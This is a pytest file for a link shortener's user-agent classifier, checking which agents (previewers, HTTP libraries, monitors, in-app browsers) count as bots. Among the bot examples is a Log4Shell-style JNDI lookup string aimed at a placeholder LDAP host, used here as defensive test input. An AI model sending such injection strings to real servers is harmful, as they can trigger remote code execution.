"""The visitor classifier over a corpus of real user agents, expected outputs in full."""

from __future__ import annotations

import json

import msgspec
import pytest

from shortlink.visits.classify import classify
from tests.support import paths

CORPUS = json.loads((paths.CORPUS / "user_agents.json").read_text("utf-8"))


def test_the_corpus_covers_every_class():
    assert len(CORPUS) >= 60
    expected = [row["expect"] for row in CORPUS]
    assert {e["kind"] for e in expected} == {"bot", "desktop", "ios", "android"}
    for os in ("iOS", "Android"):
        apps = {e["in_app"] for e in expected if e["os"] == os and e["in_app"]}
        assert {
            "instagram",
            "facebook",
            "messenger",
            "threads",
            "tiktok",
            "snapchat",
            "whatsapp",
            "line",
            "wechat",
            "viber",
        } <= apps, os
    assert {e["browser"] for e in expected if e["kind"] == "android" and not e["in_app"]} == {
        "chrome",
        "firefox",
        "samsung",
        "other",
    }


@pytest.mark.parametrize("row", CORPUS, ids=[row["name"] for row in CORPUS])
def test_corpus(row):
    visitor = classify(row["ua"], row.get("ch_platform", ""), row.get("ch_mobile", ""))
    assert msgspec.structs.asdict(visitor) == row["expect"]


def test_the_corpus_holds_every_previewer_the_issue_names():
    agents = " ".join(row["ua"] for row in CORPUS if row["expect"]["is_bot"]).lower()
    for token in (
        "facebookexternalhit",
        "facebot",
        "twitterbot",
        "slackbot",
        "slack-imgproxy",
        "discordbot",
        "whatsapp/",
        "telegrambot",
        "linkedinbot",
        "applebot",
        "iframely",
        "embedly",
        "skypeuripreview",
        "pinterestbot",
        "redditbot",
        "mastodon/",
        "google-pagerenderer",
        "vkshare",
        "bluesky cardyb",
        "thirdlandingpagefeinfra",
    ):
        assert token in agents, token


def test_whatsapp_previewer_and_in_app_browser_are_told_apart():
    assert classify("WhatsApp/2.23.20.0 A").is_bot
    in_app = classify(
        "Mozilla/5.0 (Linux; Android 13; SM-S918B Build/TP1A.220624.014; wv) "
        "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/119.0.6045.163 "
        "Mobile Safari/537.36 WhatsApp/2.23.24.76"
    )
    assert not in_app.is_bot and in_app.in_app == "whatsapp" and in_app.kind == "android"


def test_client_hints_refine_a_reduced_user_agent():
    linux = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
    assert classify(linux).kind == "desktop"
    assert classify(linux, '"Android"', "?1").kind == "android"
    assert classify(linux, "", "?1").kind == "android"  # mobile hint, platform hint missing
    assert classify(linux, '"Linux"', "?0").kind == "desktop"


def test_a_preview_agent_never_counts_as_a_person_even_with_client_hints():
    assert classify("facebookexternalhit/1.1", '"Android"', "?1").is_bot


def test_results_are_memoised():
    classify.cache_clear()
    ua = CORPUS[0]["ua"]
    assert classify(ua) is classify(ua)
    info = classify.cache_info()
    assert info.hits == 1 and info.maxsize == 4096


def test_agents_the_issue_names_are_bots():
    for agent in (
        "Amazon Route 53 Health Check Service; ref:0a1b2c",
        "Chrome Privacy Preserving Prefetch Proxy",
        "IFTTT/1.0",
        "Notion/1.0",
        "Valve/Steam HTTP Client 1.0 (SteamChatURLLookup)",
        "meta-externalads/1.1",
        "Mozilla/5.0 (compatible; AlertSite; +http://www.alertsite.com)",
        "cohere-ai",
        "Anthropic-Claude/1.0",
        "search.marginalia.nu",
        "${jndi:ldap://192.0.2.1/a}",
        "phpMyAdmin/reporting-script",
    ):
        assert classify(agent).is_bot, agent


@pytest.mark.parametrize(
    "agent",
    [
        "PostmanRuntime/7.29.0",
        "Java/1.8.0_121",
        "GuzzleHttp/7",
        "PycURL/7.13.2",
        "Apache Httpclient",
        "PHP/5.3.84",
        "Zend_Http_Client",
        "mozilla/5.0 (x11; linux x86_64; splunk synthetics) applewebkit/537.36 (khtml, like gecko) "
        "chrome/91.0.4472.114 safari/537.36",
        "Mozilla/5.0 (compatible; Windows NT 6.1; Catchpoint) AppleWebKit/537.36 (KHTML like Gecko) "
        "Chrome/43.0.2357.81 Safari/537.36",
        "Bitrix link preview",
        "nginx-ssl early hints",
        "Is is up? (+https://isitup.org)",
        "Braze Sender 75e404755ae1270441f07eb238f0faf25e44dfdc",
    ],
)
def test_agents_no_list_named_are_bots(agent):
    """The agents issue 40 found counted as people: libraries, monitors, previewers."""
    assert classify(agent).is_bot


def test_an_http_library_naming_a_phone_in_the_usual_place_is_still_a_bot():
    # The engine rule alone would pass it: the program's words decide.
    assert classify("okhttp/4.12.0 (Linux; Android 14; Pixel 8) Mobile").is_bot
    assert classify("Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 python-requests/2.32").is_bot


def test_a_crawler_posing_as_an_in_app_browser_is_a_bot_but_the_app_itself_is_a_person():
    iphone = (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 7_0 like Mac OS X) AppleWebKit/537.51.1 (KHTML, like Gecko) Mobile/11A465"
    )
    assert classify(iphone + " Twitter for iPhone BrandVerity/1.0 (http://www.brandverity.com/why)").is_bot
    meta = classify(
        "Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook"
    )
    assert not meta.is_bot and meta.in_app == "facebook"


def test_a_phone_model_named_like_a_crawler_is_a_person():
    htc = (
        "Mozilla/5.0 (Linux; Android 4.2.2; HTC Butterfly Build/JDQ39) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/31.0.1650.59 Mobile Safari/537.36"
    )
    assert not classify(htc).is_bot
    assert classify(htc.replace("Safari/537.36", "Safari/537.36 (compatible; Butterfly/1.0)")).is_bot
